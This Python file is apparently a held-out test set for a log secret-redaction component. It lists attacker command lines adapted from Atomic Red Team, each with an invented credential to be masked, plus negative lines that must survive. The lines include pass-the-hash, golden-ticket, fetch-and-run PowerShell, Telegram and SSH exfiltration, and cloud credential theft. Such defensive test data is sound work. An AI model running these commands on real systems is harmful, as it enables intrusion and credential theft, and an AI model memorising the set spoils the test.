# ruff: noqa: E501  (the log lines are data, kept whole as they were written)
"""Held-out test set for the secret-redaction component (attacker command lines).

How this file was written
-------------------------
* Date: 2026-12-04.
* Author: an independent helper session that had NO sight of the redaction
  component's rules, patterns or tests (nothing under package/lib/llm_triage/trust/,
  tests/llm_triage/trust/, the worktrees, /work/scratch/, or any file named
  *secret*/*redact* was opened).  The cases therefore do not mirror the detector.
* Method: credential-bearing command lines were harvested from public
  security-testing content, primarily Red Canary's Atomic Red Team
  (github.com/redcanaryco/atomic-red-team, snapshot commit
  9f85cf3e54b0cbdd6c702375c555273913eff442, atomics/T*/T*.yaml).  For each test
  the executor command was taken with its default input arguments substituted
  (the way it would appear in a Sysmon EID 1 CommandLine or a PowerShell 4104
  ScriptBlock record), host/domain placeholders were made realistic, and the
  credential value was then REPLACED by a freshly invented value (human-style
  passwords with symbols, passphrases, random hex NT hashes / AES keys, random
  API/bot/session tokens).  None of the values are real secrets.  A minority of
  cases come from secondary public tool documentation (Impacket, Metasploit,
  net-snmp, Samba, MySQL, git, kubectl, Azure CLI, Telegram Bot API, Windows sc.exe /
  Winlogon auto-logon) to widen tool variety.
* CASES: (case_id, source, log_line, secret) - `secret` is the exact substring
  of `log_line` that must NOT survive redaction (if it occurs more than once,
  no occurrence may survive).
* NEGATIVES: (case_id, log_line, must_survive) - analyst-needed values (file
  hashes, git commit ids, certificate thumbprints, SIDs, GUIDs, AWS access key
  IDs, user names, file names, ports, registry value names) sitting in the same
  kind of attacker command lines, often right next to words such as
  password/key/token/hash used in a non-secret role.  `must_survive` must still
  be present verbatim after redaction.  Negative lines deliberately contain no
  credential at all.

Plain Python data only.

Measured once, against the catalogue frozen at commit 7cc266a (after the rules were fitted to
secret_heldout_docs.py, before anyone here read this file): 35 of 50 masked (70%), 15 of 15 negatives
kept. Two of the misses masked the wrong word (dscl's user path, `net user /add <name>`'s name); the rest
were forms no rule knew (Metasploit's set SMBPass, certutil -p, adidnsdump -p, dsenableroot -r, rclone's
pass, chpasswd and gpg --passphrase-fd under sudo, --account-key, ngrok's authtoken, Invoke-TheHash's
-Hash, Telegram's /bot<token>, an IMDSv2 token header). Kept as a regression floor after fitting (50 of 50);
the next change to the catalogue gets a fresh set.
"""

CASES: list[tuple[str, str, str, str]] = [
    # ---------------- Windows lateral movement / remote execution ----------------
    (
        "art-T1021.002-t1-netuse",
        "atomic-red-team T1021.002 test 1 (Map admin share)",
        r'cmd.exe /c "net use \\FS02.corp.local\C$ Wint3r#Harbor77 /u:CORP\svc_backup"',
        "Wint3r#Harbor77",
    ),
    (
        "art-T1021.006-t3-evilwinrm",
        "atomic-red-team T1021.006 test 3 (WinRM Access with Evil-WinRM)",
        r"evil-winrm -i 10.20.4.15 -u CORP\Administrator -p Gr@niteFalcon2291",
        "Gr@niteFalcon2291",
    ),
    (
        "art-T1047-t6-wmic",
        "atomic-red-team T1047 test 6 (WMI Execute Remote Process)",
        r'wmic /user:CORP\Administrator /password:Vx9#qLm2!Rt /node:"10.1.2.30" process call create notepad.exe',
        "Vx9#qLm2!Rt",
    ),
    (
        "art-T1053.005-t3-schtasks-rp",
        "atomic-red-team T1053.005 test 3 (Scheduled task Remote)",
        r'SCHTASKS /Create /S DC01 /RU CORP\sched_admin /RP "Kettle!Orbit!58" /TN "Atomic task" /TR "C:\windows\system32\cmd.exe" /SC daily /ST 20:10',
        "Kettle!Orbit!58",
    ),
    (
        "art-T1569.002-t2-psexec",
        "atomic-red-team T1569.002 test 2 (PsExec remote command)",
        r'"C:\AtomicRedTeam\ExternalPayloads\PsExec.exe" \\WS-0142 -i -u CORP\Administrator -p Mapl3$yrup#9 -accepteula "C:\Windows\System32\calc.exe"',
        "Mapl3$yrup#9",
    ),
    (
        "art-T1569.002-t3-impacket-psexec-at-in-pw",
        "atomic-red-team T1569.002 test 3 (psexec.py Impacket); password contains '@'",
        "psexec.py 'CORP/Administrator:Sunsh1ne@Dock42@10.0.0.12' 'whoami'",
        "Sunsh1ne@Dock42",
    ),
    (
        "art-T1021.001-t1-cmdkey",
        "atomic-red-team T1021.001 test 1 (RDP to DomainController; cmdkey process line after variable expansion)",
        r'"C:\Windows\system32\cmdkey.exe" /generic:TERMSRV/DC01 /user:CORP\jdoe /pass:Violet*Canyon*3318',
        "Violet*Canyon*3318",
    ),
    (
        "art-T1550.003-t2-rubeus-asktgt-pw",
        "atomic-red-team T1550.003 test 2 (Rubeus Kerberos Pass The Ticket)",
        r'"C:\AtomicRedTeam\ExternalPayloads\PsExec.exe" -accepteula \\localhost -w c:\ -c "C:\AtomicRedTeam\ExternalPayloads\rubeus.exe" asktgt /user:Administrator /password:Halcyon_Days_2026 /domain:CORP /outfile:ticket.kirbi',
        "Halcyon_Days_2026",
    ),
    # ---------------- pass-the-hash / ticket forging (hashes & keys ARE credentials) ----------------
    (
        "art-T1550.002-t1-mimikatz-pth",
        "atomic-red-team T1550.002 test 1 (Mimikatz Pass the Hash)",
        r'%tmp%\mimikatz\x64\mimikatz.exe "sekurlsa::pth /user:Administrator /domain:corp.local /ntlm:f031a326d8e54391e02011e2e37f1f50"',
        "f031a326d8e54391e02011e2e37f1f50",
    ),
    (
        "art-T1550.002-t2-cme-H",
        "atomic-red-team T1550.002 test 2 (crackmapexec Pass the Hash)",
        r"C:\CrackMapExecWin\crackmapexec.exe corp.local -u Administrator -H a59c57143f6d646f2ab17cbc3358e9ba -x whoami",
        "a59c57143f6d646f2ab17cbc3358e9ba",
    ),
    (
        "art-T1550.002-t3-invoke-wmiexec",
        "atomic-red-team T1550.002 test 3 (Invoke-WMIExec Pass the Hash); URL also holds a git commit id that is NOT secret",
        "IEX (IWR 'https://raw.githubusercontent.com/Kevin-Robertson/Invoke-TheHash/01ee90f934313acc7d09560902443c18694ed0eb/Invoke-WMIExec.ps1' -UseBasicParsing);Invoke-WMIExec -Target WS-0142 -Username Administrator -Hash 551f0e5857d86e58af82e8316e7ad2cd -Command hostname",
        "551f0e5857d86e58af82e8316e7ad2cd",
    ),
    (
        "art-T1558.001-t1-mimikatz-golden-aes",
        "atomic-red-team T1558.001 test 1 (golden ticket with mimikatz)",
        r'C:\AtomicRedTeam\ExternalPayloads\mimikatz\x64\mimikatz.exe "kerberos::golden /domain:corp.local /sid:S-1-5-21-2336065572-2790051230-3429299827 /aes256:86fce398629b9d322ee2dcdc27427cef432d37d1cccbb3fdc4308377734f1132 /user:goldenticketfakeuser /ptt" "exit"',
        "86fce398629b9d322ee2dcdc27427cef432d37d1cccbb3fdc4308377734f1132",
    ),
    (
        "impacket-secretsdump-hashes",
        "https://github.com/tldr-pages/tldr/blob/main/pages/common/secretsdump.py.md (secretsdump.py -hashes LM:NT); LM half is the well-known empty-LM constant, NT half is the credential",
        "secretsdump.py -hashes aad3b435b51404eeaad3b435b51404ee:59fff6a8cf39215492548973a7eabd96 -just-dc-ntlm corp.local/Administrator@10.0.0.5",
        "59fff6a8cf39215492548973a7eabd96",
    ),
    (
        "msf-psexec-smbpass",
        "https://github.com/rapid7/metasploit-framework/blob/master/modules/exploits/windows/smb/psexec.rb (SMBUser/SMBPass options)",
        'msfconsole -q -x "use exploit/windows/smb/psexec; set RHOSTS 10.0.0.30; set SMBUser Administrator; set SMBPass Or@nge-Peel-3; run"',
        "Or@nge-Peel-3",
    ),
    # ---------------- Linux / AD from Linux ----------------
    (
        "art-T1069.002-t15-ldapsearch-w",
        "atomic-red-team T1069.002 test 15 (Domain search using LDAP from Linux/macOS)",
        """ldapsearch -H ldap://dc01.example.com:389 -x -D user@example.com -w 'R1ver$tone^Owl' -b "CN=Users,DC=example,DC=com" "(objectClass=group)" -s sub -a always -z 1000 dn""",
        "R1ver$tone^Owl",
    ),
    (
        "art-T1018-t9-adidnsdump",
        "atomic-red-team T1018 test 9 (adidnsdump)",
        r'"C:\AtomicRedTeam\ExternalPayloads\venv_t1018\Scripts\adidnsdump" -u CORP\svc_dns -p Dn$Dump3r!44 --print-zones 192.168.1.1',
        "Dn$Dump3r!44",
    ),
    (
        "art-T1136.002-t4-ldif-userpassword",
        "atomic-red-team T1136.002 test 4 (Active Directory Create Admin Account, LDIF written by echo)",
        r'echo "dn: CN=Admin User,CN=Users,DC=example,DC=test\nchangetype: add\nobjectClass: user\nsAMAccountName: adminuser\nuserAccountControl: 512\nuserPassword: {CLEARTEXT}Glacier^Mint^404\nmemberOf: CN=Domain Admins,CN=Users,DC=example,DC=test" > tempadmin.ldif',
        "Glacier^Mint^404",
    ),
    (
        "art-T1136.001-t6-chpasswd",
        "atomic-red-team T1136.001 test 6 (new Linux user with root UID/GID)",
        'echo "butter:Cr!spyBacon#07" | sudo chpasswd',
        "Cr!spyBacon#07",
    ),
    (
        "art-T1110.004-t1-sshpass",
        "atomic-red-team T1110.004 test 1 (SSH credential stuffing; sshpass process line after expansion)",
        "sshpass -p 'Pwd!Stuff3r' ssh -o 'StrictHostKeyChecking=no' root@localhost",
        "Pwd!Stuff3r",
    ),
    (
        "art-T1048-t2-openssl-des3-pass",
        "atomic-red-team T1048 test 2 (Exfiltration over SSH, openssl-encrypted tarball)",
        "tar czpf - /Users/* | openssl des3 -salt -pass pass:h1ghT1de_Rav3n | ssh atomic@target.example.com 'cat > /Users.tar.gz.enc'",
        "h1ghT1de_Rav3n",
    ),
    (
        "art-T1027.013-t3-zip-P",
        "atomic-red-team T1027.013 test 3 (password-protected ZIP payload)",
        'cd /tmp && zip -P "ph0sph0r-Wand" art_encrypted.zip art_payload.sh',
        "ph0sph0r-Wand",
    ),
    (
        "art-T1486-t1-gpg-passphrase-fd",
        "atomic-red-team T1486 test 1 (Encrypt files using gpg)",
        'echo "Obsidian-Ferret-61" | /usr/bin/gpg --batch --yes --passphrase-fd 0 --cipher-algo AES-256 -o /tmp/passwd.gpg -c /etc/passwd',
        "Obsidian-Ferret-61",
    ),
    (
        "art-T1486-t2-7z-attached-p",
        "atomic-red-team T1486 test 2 (Encrypt files using 7z; -p glued to the value)",
        "/usr/bin/7z a -pJ4guar.Rain.19 /tmp/passwd.zip /etc/passwd",
        "J4guar.Rain.19",
    ),
    (
        "net-snmp-snmpwalk-community",
        "http://www.net-snmp.org/docs/man/snmpwalk.html (-c COMMUNITY); SNMP community string used as a credential",
        "snmpwalk -v2c -c N3tw0rkM0n!tor 10.10.1.1 1.3.6.1.2.1.1",
        "N3tw0rkM0n!tor",
    ),
    (
        "samba-smbclient-percent",
        "https://www.samba.org/samba/docs/current/man-html/smbclient.1.html (-U user%password)",
        r"smbclient //10.0.0.5/C$ -U 'CORP\jdoe%Quartz!Meadow12' -c 'get Windows\NTDS\ntds.dit'",
        "Quartz!Meadow12",
    ),
    (
        "mysql-attached-p",
        "https://dev.mysql.com/doc/refman/8.0/en/connecting.html (-p glued to password)",
        "mysql -h 10.0.0.60 -u root -pBr1ckL@yer99 -e 'select user,authentication_string from mysql.user'",
        "Br1ckL@yer99",
    ),
    # ---------------- macOS ----------------
    (
        "art-T1078.003-t2-dscl-passwd",
        "atomic-red-team T1078.003 test 2 (local admin account on macOS via dscl)",
        "dscl . -passwd /Users/AtomicUser Saffron.Pelican.91",
        "Saffron.Pelican.91",
    ),
    (
        "art-T1078.003-t3-sysadminctl",
        "atomic-red-team T1078.003 test 3 (sysadminctl -addUser)",
        "sysadminctl interactive -addUser art-tester -fullName ARTUser -password Qu!ckS1lver88 -admin",
        "Qu!ckS1lver88",
    ),
    (
        "art-T1078.003-t4-dsenableroot-twice",
        "atomic-red-team T1078.003 test 4 (dsenableroot; same value given for -p and -r, both must go)",
        "dsenableroot -u art-tester -p CobaltMoth77 -r CobaltMoth77",
        "CobaltMoth77",
    ),
    # ---------------- ESXi / network devices ----------------
    (
        "art-T1021.004-t2-plink-pw",
        "atomic-red-team T1021.004 test 2 (ESXi enable SSH via vim-cmd over plink)",
        r'echo "" | "C:\AtomicRedTeam\ExternalPayloads\plink.exe" -batch "esxi01.lab.local" -ssh -l root -pw "Esx!R00t#2026" "vim-cmd hostsvc/enable_ssh"',
        "Esx!R00t#2026",
    ),
    (
        "art-T1021.004-t1-powercli",
        "atomic-red-team T1021.004 test 1 (ESXi enable SSH via PowerCLI)",
        "Connect-VIServer -Server esxi01.lab.local -User root -Password VMw@re-Qu4rtz",
        "VMw@re-Qu4rtz",
    ),
    # ---------------- Windows account manipulation / persistence ----------------
    (
        "art-T1136.001-t4-netuser-add",
        "atomic-red-team T1136.001 test 4 (new user in a command prompt)",
        'net user /add "svc_update" "Upd@te-Svc-9931"',
        "Upd@te-Svc-9931",
    ),
    (
        "art-T1564.002-t3-hidden-user",
        "atomic-red-team T1564.002 test 3 (Create Hidden User in Registry)",
        "NET USER AtomicOperator$ Hidd3n!Op#2026 /ADD /expires:never",
        "Hidd3n!Op#2026",
    ),
    (
        "winlogon-defaultpassword-regadd",
        "https://learn.microsoft.com/en-us/troubleshoot/windows-server/user-profiles-and-logon/turn-on-automatic-logon (DefaultPassword; MITRE T1552.002)",
        r'reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v DefaultPassword /t REG_SZ /d "Kiosk!Auto#55" /f',
        "Kiosk!Auto#55",
    ),
    (
        "sc-create-obj-password",
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/sc-create (obj= password=; MITRE T1543.003)",
        r'sc.exe create ArtSvc binPath= "C:\ProgramData\svc.exe" obj= "CORP\svc_app" password= "Svc#Acct!Pwd9" start= auto',
        "Svc#Acct!Pwd9",
    ),
    # ---------------- PowerShell ScriptBlock style ----------------
    (
        "art-T1098.003-t2-securestring",
        "atomic-red-team T1098.003 test 2 (BEC persistence: password reset + admin role)",
        '$targetsecurepw = ConvertTo-SecureString -String "Ohm-Valley#7731" -AsPlainText -Force',
        "Ohm-Valley#7731",
    ),
    (
        "art-T1110.003-t7-msolspray",
        "atomic-red-team T1110.003 test 7 (MSOLSpray)",
        r'Invoke-MSOLSpray -UserList "$env:temp\T1110.003UserList.txt" -Password "Welcome@Contoso1"',
        "Welcome@Contoso1",
    ),
    (
        "art-T1059.001-t21-soaphound",
        "atomic-red-team T1059.001 test 21 (SOAPHound dump BloodHound data)",
        r'C:\AtomicRedTeam\atomics\T1059.001\bin\SOAPHound.exe --user jdoe --password "Bl0ssom!Quarry" --domain CORP --dc 10.0.1.14 --bhdump --cachefilename c:\temp\cache.txt --outputdirectory c:\temp\test2',
        "Bl0ssom!Quarry",
    ),
    (
        "art-T1552.004-t11-certutil-p",
        "atomic-red-team T1552.004 test 11 (CertUtil ExportPFX); thumbprint is NOT secret",
        r"certutil.exe -p Pfx!Export-8812 -exportPFX Root 1F3D38F280635F275BE92B87CF83E40E40458400 c:\temp\atomic.pfx",
        "Pfx!Export-8812",
    ),
    # ---------------- exfiltration / C2 tokens ----------------
    (
        "art-T1048.003-t7-rclone-ftp-pass",
        "atomic-red-team T1048.003 test 7 (Exfiltration over FTP with rclone)",
        '&$rclone_bin config create ftpserver "ftp" "host" ftp.dlptest.com "port" 21 "user" dlpuser "pass" k3Xw9TqLpZ7vRb2NmYc4HdJs',
        "k3Xw9TqLpZ7vRb2NmYc4HdJs",
    ),
    (
        "art-T1567.002-t1-rclone-conf-mega",
        "atomic-red-team T1567.002 test 1 (rclone to Mega; config line written with Set-Content)",
        'set-Content $env:appdata\\rclone\\rclone.conf "[T1567002] `n type = mega `n user = atomictesting@outlook.com `n pass = l-9FOKYM6puKQKBisb2UNwaWJUU65f4cexBTbf98"',
        "l-9FOKYM6puKQKBisb2UNwaWJUU65f4cexBTbf98",
    ),
    (
        "art-T1567.003-t1-pastebin-apikey",
        "atomic-red-team T1567.003 test 1 (HTTP POST to pastebin.com)",
        '$apiKey = "Wp4pZv0m1cJqXl8dSoU3YB7gujXyVXFz"',
        "Wp4pZv0m1cJqXl8dSoU3YB7gujXyVXFz",
    ),
    (
        "art-T1572-t4-ngrok-authtoken",
        "atomic-red-team T1572 test 4 (run ngrok)",
        r"C:\Users\Public\ngrok\ngrok.exe config add-authtoken 2akXxuVv0YH1TFwq4sLKn5EHuSm_RRYlIutwjE2WFPdiewhwx",
        "2akXxuVv0YH1TFwq4sLKn5EHuSm_RRYlIutwjE2WFPdiewhwx",
    ),
    (
        "telegram-bot-exfil",
        "https://core.telegram.org/bots/api#senddocument (bot token in URL path; exfil over web service, MITRE T1567)",
        'curl -s -F document=@/tmp/loot.zip "https://api.telegram.org/bot9961727116:AA9QMWpSrHIm5NoXMRhYGa4esmVilqZiwT_/sendDocument?chat_id=-1002231187456"',
        "9961727116:AA9QMWpSrHIm5NoXMRhYGa4esmVilqZiwT_",
    ),
    (
        "git-clone-token-in-url",
        "https://docs.github.com/en/apps/creating-github-apps/authenticating-with-a-github-app/authenticating-as-a-github-app-installation (x-access-token in clone URL)",
        "git clone https://x-access-token:ghp_rnNtq9BBtJKT9Yjr0BhrdcB3gTohmwPRpQTZ@github.com/acme-corp/infra-deploy.git /tmp/.cache/repo",
        "ghp_rnNtq9BBtJKT9Yjr0BhrdcB3gTohmwPRpQTZ",
    ),
    # ---------------- cloud CLIs ----------------
    (
        "art-T1136.003-t3-az-ad-user-create",
        "atomic-red-team T1136.003 test 3 (Azure AD new user via Azure CLI; process line after expansion)",
        "az ad user create --display-name atomicredteam --password Tq8-Lm3v-Zr6w-Yp1k-Hs5n --user-principal-name atomicredteam@yourdomain.com",
        "Tq8-Lm3v-Zr6w-Yp1k-Hs5n",
    ),
    (
        "az-storage-account-key",
        "https://learn.microsoft.com/en-us/cli/azure/storage/blob#az-storage-blob-list (--account-key; cf. atomic-red-team T1619 test 2 shared-key access)",
        'az storage blob list --account-name artstorage01 --account-key "JbMQlokZ60jxsO4Tv+5LdqyMSkdIaPUDP4R/8Fl43LM=" --container-name backups --output table',
        "JbMQlokZ60jxsO4Tv+5LdqyMSkdIaPUDP4R/8Fl43LM=",
    ),
    (
        "art-T1526-t2-aws-session-token",
        "atomic-red-team T1526 test 2 (AWS enumerate cloud services; ScriptBlock with session token filled in)",
        '$session_token = "IQoJb3JpZ2luX2VjEA/wssp3lqwnGfX2/ajF6qReKU2hmCVkSrVwOOxF2iaDkmqf3VhV0GWxDV9zL/FzW7h1CD4GPJ0AaoCUdXN2+7EKZrwYTwazH6rMRKU0o9fnrMX7r3p9uTpjtNgkFr3au7grcsbfPgDalqdgKXw/TarXjMDgfp4YWbuLosz/yNGYLtc7A3h4f="',
        "IQoJb3JpZ2luX2VjEA/wssp3lqwnGfX2/ajF6qReKU2hmCVkSrVwOOxF2iaDkmqf3VhV0GWxDV9zL/FzW7h1CD4GPJ0AaoCUdXN2+7EKZrwYTwazH6rMRKU0o9fnrMX7r3p9uTpjtNgkFr3au7grcsbfPgDalqdgKXw/TarXjMDgfp4YWbuLosz/yNGYLtc7A3h4f=",
    ),
    (
        "art-T1552.005-t3-imds-token",
        "atomic-red-team T1552.005 test 3 (EC2 IAM role credentials via IMDSv2; token expanded)",
        'curl -s --connect-timeout 2 -m 5 -H "X-aws-ec2-metadata-token: AQAEABte-XIaVfbjmZ4fxeQqgu3k4gGBXDbXKuC6MLbBvZZTOCR5H7oF==" "http://169.254.169.254/latest/meta-data/iam/security-credentials/"',
        "AQAEABte-XIaVfbjmZ4fxeQqgu3k4gGBXDbXKuC6MLbBvZZTOCR5H7oF==",
    ),
    (
        "kubectl-bearer-token",
        "https://kubernetes.io/docs/reference/kubectl/kubectl/ (--token); MITRE T1552.007 container API",
        "kubectl --server=https://10.96.0.1:443 --token=eyJhbGciOiJSUzI1NiIsImtpZCI6ISXjTFtbguuVNLlSn9L3vppvAQsObRI0RheJ9k2Dq.eyJpc3MiOiJrdWJlcm5ldGVzL3NlcnZpY2VhY2NvdW50IiPEmnjTrgYrfKFzLvBad5RmJRMC2nHP_9v8cI0RpMHoKUkt51YXPGNuU3evlP.vpamYg_SpWuzUslupK6EtBPpHUqsFdvbaMzEgloAER2wIzjHWhVU2AFbFFjqwy2xGBrtwOST4_f4_cgQBPoe-0 --insecure-skip-tls-verify get secrets -A",
        "eyJhbGciOiJSUzI1NiIsImtpZCI6ISXjTFtbguuVNLlSn9L3vppvAQsObRI0RheJ9k2Dq.eyJpc3MiOiJrdWJlcm5ldGVzL3NlcnZpY2VhY2NvdW50IiPEmnjTrgYrfKFzLvBad5RmJRMC2nHP_9v8cI0RpMHoKUkt51YXPGNuU3evlP.vpamYg_SpWuzUslupK6EtBPpHUqsFdvbaMzEgloAER2wIzjHWhVU2AFbFFjqwy2xGBrtwOST4_f4_cgQBPoe-0",
    ),
]

NEGATIVES: list[tuple[str, str, str]] = [
    (
        "neg-art-T1003-t1-gsecdump-sha256",
        r'if(Invoke-WebRequestVerifyHash "https://web.archive.org/web/20150606043951if_/http://www.truesec.se/Upload/Sakerhet/Tools/gsecdump-v2b5.exe" "$binpath" 94CAE63DCBABB71C5DD43F55FD09CAEFFDCD7628A02A112FB3CBA36698EF72BC){ Move-Item $binpath "C:\AtomicRedTeam\ExternalPayloads\gsecdump.exe" }',
        "94CAE63DCBABB71C5DD43F55FD09CAEFFDCD7628A02A112FB3CBA36698EF72BC",
    ),
    (
        "neg-art-T1550.002-invoke-thehash-commit",
        "IEX (IWR 'https://raw.githubusercontent.com/Kevin-Robertson/Invoke-TheHash/01ee90f934313acc7d09560902443c18694ed0eb/Invoke-TheHash.psd1' -UseBasicParsing)",
        "01ee90f934313acc7d09560902443c18694ed0eb",
    ),
    (
        "neg-aws-access-key-id",
        "aws iam delete-access-key --access-key-id AKIA2WRN22QSAJQ55NIS --user-name atomicredteam",
        "AKIA2WRN22QSAJQ55NIS",
    ),
    (
        "neg-art-T1552.004-cert-thumbprint",
        r"Get-ChildItem Cert:\LocalMachine\Root\1F3D38F280635F275BE92B87CF83E40E40458400 | Remove-Item -DeleteKey",
        "1F3D38F280635F275BE92B87CF83E40E40458400",
    ),
    (
        "neg-art-T1552.004-t10-keyobjectguid",
        '$keyObjectGuid = \'6b4a9f1e-2c3d-4e5f-8a7b-9c0d1e2f3a4b\'; $ADSearch.Filter="(l=$keyObjectGuid)"; $key=[byte[]]$aduser.Properties["thumbnailphoto"][0]',
        "6b4a9f1e-2c3d-4e5f-8a7b-9c0d1e2f3a4b",
    ),
    (
        "neg-sid-passwordlastset",
        "Get-ADUser -Filter \"SID -eq 'S-1-5-21-2336065572-2790051230-3429299827-1104'\" -Properties PasswordLastSet,pwdLastSet,LastLogonDate",
        "S-1-5-21-2336065572-2790051230-3429299827-1104",
    ),
    (
        "neg-reg-query-defaultpassword-name",
        r'reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v DefaultPassword',
        "DefaultPassword",
    ),
    ("neg-art-T1552.001-findstr-pass", "findstr /si pass *.xml *.doc *.txt *.xls", "*.xml"),
    (
        "neg-grep-aws-secret-key-path",
        "grep -rn 'aws_secret_access_key' /home/ubuntu/.aws/credentials",
        "/home/ubuntu/.aws/credentials",
    ),
    (
        "neg-art-T1110.002-hashcat-files",
        r"C:\AtomicRedTeam\ExternalPayloads\hashcat6\hashcat-6.1.1\hashcat.exe -a 0 -m 1000 -r .\rules\Incisive-leetspeak.rule C:\loot\ntlm_hashes.txt C:\AtomicRedTeam\atomics\T1110.002\src\password.lst",
        r"C:\loot\ntlm_hashes.txt",
    ),
    (
        "neg-art-T1550.003-ticket-filename",
        r'"C:\AtomicRedTeam\ExternalPayloads\rubeus.exe" asktgs /service:cifs/dc01.corp.local /ticket:ticket.kirbi /ptt',
        "ticket.kirbi",
    ),
    (
        "neg-art-T1136.001-t5-nopassword-username",
        'New-LocalUser -Name "pwd_rotation_svc" -NoPassword',
        "pwd_rotation_svc",
    ),
    ("neg-ssh-port-p", "ssh -p 2222 -i ~/.ssh/id_ed25519 -o StrictHostKeyChecking=no deploy@203.0.113.17", "-p 2222"),
    (
        "neg-art-T1552.005-imds-token-ttl",
        'token=$(curl -s --connect-timeout 2 -m 5 -X PUT "http://169.254.169.254/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 21600")',
        "X-aws-ec2-metadata-token-ttl-seconds: 21600",
    ),
    (
        "neg-art-T1078.004-gcp-key-file",
        "gcloud iam service-accounts keys create gcp-art-service-account-1.json --iam-account=gcp-art-service-account-1@art-project-1.iam.gserviceaccount.com",
        "gcp-art-service-account-1.json",
    ),
]
